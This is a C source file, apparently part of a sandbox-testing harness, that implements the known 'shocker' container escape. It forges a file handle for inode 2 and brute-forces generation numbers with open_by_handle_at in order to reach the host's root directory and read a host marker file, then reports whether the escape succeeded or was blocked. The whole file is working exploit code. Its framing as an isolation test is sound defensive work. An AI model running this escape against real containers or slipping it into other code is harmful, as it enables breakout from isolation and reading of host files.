/* The shocker escape: open_by_handle_at with a forged file handle for
 * inode 2 (the root directory of an ext4 file system) relative to a
 * descriptor on the host file system the rootfs lives on, then open the
 * host's marker file from there. */
#include "attack.h"

struct handle { unsigned int bytes; int type; unsigned char f[8]; };

int main(void) {
    protocol_init("shocker");
    const char *marker = param("ATTACK_MARKER"), *secret = param("ATTACK_SECRET");
    struct handle h = {.bytes = 8};
    int mnt = -1;
    long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &mnt, 0);
    int e1 = r < 0 ? errno : 0;
    info("name_to_handle_at /: %s (type %d)", ename(e1), h.type);
    int fd_root = open("/", O_RDONLY | O_DIRECTORY);
    /* Brute force the generation number a little, as shocker does. */
    int e2 = 0;
    for (unsigned gen = 0; gen < 16; gen++) {
        struct handle f = {.bytes = 8, .type = 1 /* FILEID_INO32_GEN */};
        unsigned ino = 2;
        memcpy(f.f, &ino, 4);
        memcpy(f.f + 4, &gen, 4);
        long fd = syscall(SYS_open_by_handle_at, fd_root, &f, O_RDONLY | O_DIRECTORY);
        if (fd < 0) { e2 = errno; if (e2 != ESTALE) break; continue; }
        int e = try_secret_at(fd, marker + 1, secret);
        info("handle of inode 2 opened; marker: %s", ename(e));
        if (e == 0) { verdict("ESCAPED", "opened the host root by handle and read the host file"); return 0; }
        verdict("ESCAPED", "opened a directory by forged handle (inode 2)");
        return 0;
    }
    info("open_by_handle_at: %s", ename(e2));
    verdict("BLOCKED", "open_by_handle_at refused (%s)", ename(e2));
    return 0;
}
